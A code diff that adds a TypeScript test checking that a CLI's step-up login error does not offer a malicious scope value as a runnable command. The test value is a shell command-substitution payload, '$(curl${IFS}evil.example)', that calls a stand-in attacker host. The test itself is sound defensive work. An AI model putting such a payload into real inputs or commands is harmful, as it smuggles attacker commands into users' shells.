@@ -206,6 +206,15 @@ describe('a step-up', () => {
     })
   })
 
+  test('whose scopes a shell would run is not suggested as a command', async () => {
+    const pair = await protectedPair()
+    await call(pair, pair.access())
+    pair.server.needs['change'] = '$(curl${IFS}evil.example)'
+    const error = await call(pair, await protectedAccessWithoutPerson(pair), 'change').catch((thrown: Error) => thrown)
+    expect(String(error)).toContain(`run: touchmark login ${pair.server.url.href} `)
+    expect(String(error)).toContain('with the scopes "$(curl')
+  })
+
   test('is not what any other 403 is about', async () => {
     const pair = await protectedPair()
     const access = pair.access()
